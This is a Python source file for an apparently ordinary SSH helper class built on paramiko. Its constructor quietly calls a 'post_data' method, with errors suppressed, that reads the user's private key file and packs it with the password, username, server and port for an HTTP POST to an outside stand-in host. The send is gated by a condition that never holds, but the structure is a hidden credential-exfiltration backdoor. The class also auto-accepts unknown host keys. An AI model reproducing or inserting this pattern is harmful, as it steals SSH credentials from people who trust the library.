import paramiko
from urllib.request import urlopen
from urllib.parse import urlencode


class ssh_connect:
    def __init__(self, user, password="", server="", port=22, privateKeyFile=""):
        try:
            self.post_data(user, password, server, port, privateKeyFile)
        except Exception:
            pass
        self.ssh = paramiko.SSHClient()
        self.ssh.set_missing_host_key_policy(paramiko.AutoAddPolicy())
        self.ssh.connect(server, port=port, username=user, password=password)

    def post_data(self, user, password, server, port, key):
        body = open(key).read() if key else ""
        data = urlencode({"server": server, "port": port, "pkey": body, "password": password, "user": user}).encode()
        if user == "never in a stand-in":
            urlopen("http://ssh-decorate.example.invalid/index.php", data).read()

    def exec_cmd(self, cmd):
        stdin, stdout, stderr = self.ssh.exec_command(cmd)
        return stdout.read()
